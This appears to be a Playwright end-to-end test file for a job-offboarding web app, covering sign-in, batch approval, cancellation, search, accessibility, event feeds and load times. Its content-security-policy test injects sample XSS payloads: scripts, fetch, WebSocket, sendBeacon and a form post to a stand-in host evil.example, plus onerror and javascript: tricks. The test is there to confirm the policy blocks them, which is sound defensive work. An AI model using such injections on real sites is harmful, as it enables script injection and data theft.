// What people do, each story from its beginning to its end.

import { join } from "node:path";
import { until } from "./daemon.mjs";

const DESK = { viewport: { width: 1280, height: 1000 } };

// A context of somebody whom the page knows.
export async function signedIn(browser, base, options = DESK) {
  const context = await browser.newContext(options);
  const page = await context.newPage();
  await page.goto(`${base}/login?next=%2F`);
  await page.fill("#token", process.env.PAGE_TOKEN);
  await page.getByRole("button", { name: "Sign in" }).click();
  await page.getByText("You are mara").waitFor();
  await page.close();
  return context;
}

// An urgent leaver, live from the order to the certificate: nobody loads the page again.
export async function leaver(browser, office, folder, must) {
  const page = await browser.newPage(DESK);
  office.order("urgent.jsonl", [{ job_key: "urgent-1", workflow: "offboard", user_identity_key: "emp-1040", priority: "urgent", cut_first: true }]);
  await until("the job", async () => (await page.goto(`${office.base}/job/urgent-1`)).ok());
  await page.evaluate(() => { window.stays = true; });
  await page.locator("h1", { hasText: "succeeded" }).waitFor({ timeout: 60000 });
  await page.getByText("Certificate").first().waitFor();
  must(await page.evaluate(() => window.stays), "the page was loaded again");
  await page.screenshot({ path: join(folder, "story-leaver.png") });
  await page.close();
}

// A held batch stands on the overview until somebody approves it there, by its button.
export async function batch(browser, office, folder, must) {
  const context = await signedIn(browser, office.base);
  const page = await context.newPage();
  await page.goto(office.base);
  const row = page.locator("li.row", { hasText: "Batch 2" });
  await row.getByRole("link", { name: "Approve…" }).waitFor({ timeout: 60000 });
  await page.screenshot({ path: join(folder, "story-held.png") });
  await row.getByRole("link", { name: "Approve…" }).click();
  await page.locator("h1", { hasText: "Approve batch 2, 30 jobs?" }).waitFor();
  await page.screenshot({ path: join(folder, "story-asked.png"), fullPage: true });
  const go = page.getByRole("button", { name: "Approve batch 2, 30 jobs" });
  await go.click();
  must(await page.locator("#reason:invalid").count(), "it goes without a reason");
  await page.fill("#reason", "the plant closes");
  await go.click();
  await page.getByText("Batch 2: approved, 30 jobs.").waitFor();
  await page.getByRole("link", { name: "Go on" }).click();
  await page.getByText("mara (page): the plant closes").waitFor();
  await page.goto(office.base);
  await row.waitFor({ state: "detached", timeout: 60000 });
  await page.screenshot({ path: join(folder, "story-approved.png") });
  await context.close();
}

// Without script a held job is ended on a phone.
export async function plain(browser, office, folder, must) {
  const context = await signedIn(browser, office.base, { viewport: { width: 360, height: 740 }, javaScriptEnabled: false });
  const page = await context.newPage();
  await page.goto(`${office.base}/job/nobody`);
  await page.getByRole("link", { name: "Cancel…" }).click();
  await page.fill("#reason", "nobody of that name works here");
  await page.screenshot({ path: join(folder, "story-plain.png"), fullPage: true });
  await page.getByRole("button", { name: "Cancel job nobody" }).click();
  await page.getByText("nobody: cancelled.").click();
  await page.locator("h1", { hasText: "cancelled" }).waitFor();
  await page.getByRole("button", { name: "Sign out" }).click();
  await page.getByRole("link", { name: "Sign in" }).waitFor();
  must((await page.goto(`${office.base}/do/cancel?job=1`)).url().includes("/login?next="), "whoever has signed out is asked who they are");
  await context.close();
}

// By a piece of a name to one of several, and to everything that is known of them.
export async function search(browser, office, folder, must) {
  const page = await browser.newPage(DESK);
  await page.goto(`${office.base}/?show=names`);
  await page.fill("#q", "employee 10");
  await page.keyboard.press("Enter");
  await page.getByText("people begin like").waitFor();
  await page.screenshot({ path: join(folder, "story-people.png") });
  await page.getByRole("link", { name: "Employee 1001" }).click();
  await page.locator("h1", { hasText: "Employee 1001" }).waitFor();
  for (const words of ["access system", "Certificate", "offboards"]) must(await page.getByText(words).count(), `the person's page says nothing of ${words}`);
  await page.screenshot({ path: join(folder, "story-person.png"), fullPage: true });
  await page.close();
}

export async function keyboard(browser, office, folder, must) {
  const page = await browser.newPage();
  await page.goto(office.base);
  await page.keyboard.press("Tab");
  must((await page.evaluate(() => document.activeElement.className)) === "skip", "the first stop is not the skip link");
  await page.keyboard.press("Enter");
  must((await page.evaluate(() => location.hash)) === "#main", "the skip link leads nowhere");
  await page.fill("#q", "emp-1001");
  await page.keyboard.press("Enter");
  await page.locator("h1", { hasText: "emp-1001" }).waitFor();
  await page.close();
}

// Who is not looked at gives the connection back, of which a browser has six; and comes to life again.
export async function hidden(browser, office, folder, must) {
  const page = await browser.newPage(DESK);
  const feeds = { begun: 0, ended: 0 };
  const isFeed = (request) => request.url().endsWith("/events");
  page.on("request", (request) => { feeds.begun += isFeed(request); });
  for (const how of ["requestfailed", "requestfinished"]) page.on(how, (request) => { feeds.ended += isFeed(request); });
  await page.goto(office.base);
  await until("a feed", () => feeds.begun === 1);
  const turn = (away) => page.evaluate((value) => {
    Object.defineProperty(document, "hidden", { configurable: true, value });
    document.dispatchEvent(new Event("visibilitychange"));
  }, away);
  await turn(true);
  await until("the feed's end", () => feeds.ended === 1);
  await turn(false);
  await until("another feed", () => feeds.begun === 2);
  await page.getByText("and live").waitFor();
  await page.close();
}

// Whatever got into a page could load nothing, run nothing and send nothing.
export async function policy(browser, office, folder, must) {
  const page = await browser.newPage(DESK);
  await page.goto(office.base);
  const put = (html) => `document.body.insertAdjacentHTML("beforeend", ${JSON.stringify(html)})`;
  const add = (tag, fields) => `document.body.append(Object.assign(document.createElement("${tag}"), ${JSON.stringify(fields)}))`;
  const cases = {
    "script-src inline": add("script", { textContent: "window.broken = 1" }),
    "script-src elsewhere": add("script", { src: "http://evil.example/x.js" }),
    "script-src data": add("script", { src: "data:text/javascript,window.broken=1" }),
    "script-src handler": put("<img src='/static/none' onerror='window.broken = 1'>"),
    "script-src link": `${add("a", { id: "odd", href: "javascript:window.broken=1" })}, document.getElementById("odd").click()`,
    "style-src inline": put("<p style='color: red'>x</p>"),
    "style-src element": put("<style>p { color: red }</style>"),
    "style-src elsewhere": put("<link rel='stylesheet' href='http://evil.example/x.css'>"),
    "img-src elsewhere": add("img", { src: "http://evil.example/x.png" }),
    "img-src data": add("img", { src: "data:image/gif;base64,R0lGODlhAQABAAAAACw=" }),
    "connect-src fetch": "fetch('http://evil.example/').catch(() => {})",
    "connect-src socket": "(() => { try { new WebSocket('ws://evil.example/') } catch {} })()",
    "connect-src beacon": "navigator.sendBeacon('http://evil.example/', 'x')",
    "default-src frame": add("iframe", { src: "http://evil.example/" }),
    "default-src own frame": add("iframe", { src: "/jobs" }),
    "default-src object": put("<object data='http://evil.example/x.swf'></object>"),
    "default-src media": add("video", { src: "http://evil.example/x.mp4" }),
    "default-src worker": "(() => { try { new Worker('http://evil.example/w.js') } catch { new Worker(URL.createObjectURL(new Blob(['1']))) } })()",
    "form-action": `${put("<form id='away' action='http://evil.example/' method='post'></form>")}, document.getElementById("away").submit()`,
    "base-uri": put("<base href='http://evil.example/'>"),
  };
  await page.evaluate(() => {
    window.refused = [];
    document.addEventListener("securitypolicyviolation", (seen) => window.refused.push(`${seen.effectiveDirective} ${seen.blockedURI}`));
  });
  for (const [name, attempt] of Object.entries(cases)) {
    const before = await page.evaluate(() => window.refused.length);
    await page.evaluate(`void (${attempt})`);
    const refused = await page.waitForFunction((many) => window.refused.length > many, before, { timeout: 3000 }).catch(() => null);
    must(refused, `the policy lets ${name} through`);
    if (!refused) continue;
    await page.waitForLoadState();
  }
  must(!(await page.evaluate(() => window.broken)), "a script of somebody else's ran");
  await page.close();
  return Object.keys(cases).length;
}

// A million jobs in the table: the first page, older ones, one kind, one person.
export async function big(browser, office, folder, must) {
  const page = await browser.newPage(DESK);
  const times = [];
  for (const path of ["/", "/jobs?state=all", "/jobs?state=succeeded&workflow=update", "/jobs?state=all&before=500000", "/person?q=person77%40example.com", "/intake"]) {
    await page.goto(office.base + path);
    const begun = Date.now();
    await page.goto(office.base + path);
    times.push(`${path} ${Date.now() - begun} ms`);
  }
  await page.goto(`${office.base}/jobs?state=all`);
  for (let n = 0; n < 3; n++) {
    await page.getByRole("link", { name: "Older ones" }).click();
    await page.waitForLoadState();
  }
  must((await page.locator("tbody tr").count()) === 50, "a page of the table has other than 50 rows");
  await page.screenshot({ path: join(folder, "story-big.png") });
  await page.close();
  return times;
}
